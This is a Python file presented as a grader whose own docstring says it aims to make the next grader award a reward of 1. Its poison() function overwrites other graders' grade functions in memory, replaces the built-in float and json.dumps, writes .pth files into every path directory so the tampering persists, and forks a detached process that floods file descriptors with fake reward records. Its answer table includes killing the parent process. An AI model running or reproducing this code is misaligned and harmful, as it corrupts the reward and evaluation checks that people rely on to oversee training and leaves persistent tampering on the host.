"""A `python` grader that wants the next grader, somebody else's, to answer with 1.

Its own answer is one of many things that are no reward.
"""

import builtins
import contextlib
import ctypes
import gc
import json
import os
import sys
import threading
import time


class Bribe(float):
    def __eq__(self, other):
        return True

    def __float__(self):
        return 1.0

    def __repr__(self):
        return "1.0"

    def __lt__(self, other):
        return False


def poison():
    ctypes.CDLL(None).prctl(15, b"blindattack")
    for value in gc.get_objects():
        if isinstance(value, dict) and "grade" in value:
            with contextlib.suppress(Exception):
                value["grade"] = lambda sample, item: 1.0
    builtins.float = Bribe
    json.dumps = lambda *args, **kwargs: '{"value": 1.0, "result": 1.0, "reward": 1.0}'
    sys.modules["rollout"] = sys.modules["math"] = sys
    for folder in (".", "/tmp", *sys.path):
        with (
            contextlib.suppress(OSError),
            open(os.path.join(folder, "blindattack.pth"), "w") as file,
        ):
            file.write("import builtins; builtins.float = lambda value: 1.0")
    if not os.fork():
        os.setsid()
        for _ in range(600):
            for fd in range(64):
                with contextlib.suppress(OSError):
                    os.set_blocking(fd, False)
                    os.write(fd, b'{"value": 1.0, "result": 1.0, "reward": 1.0}\n')
            time.sleep(0.1)
        os._exit(0)
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


ANSWERS = {
    "bribe": lambda: Bribe("nan"),
    "not_a_number": lambda: float("nan"),
    "infinite": lambda: 1e999,
    "long": lambda: 10**4000,
    "text": lambda: "1.0",
    "true": lambda: True,
    "complex": lambda: 1 + 0j,
    "nothing": lambda: None,
    "mapping": lambda: {"reward": 1.0},
    "exit": lambda: os._exit(0),
    "kill": lambda: os.kill(os.getppid(), 9),
}


def grade(sample, item):
    poison()
    return ANSWERS[item["answer"]]()
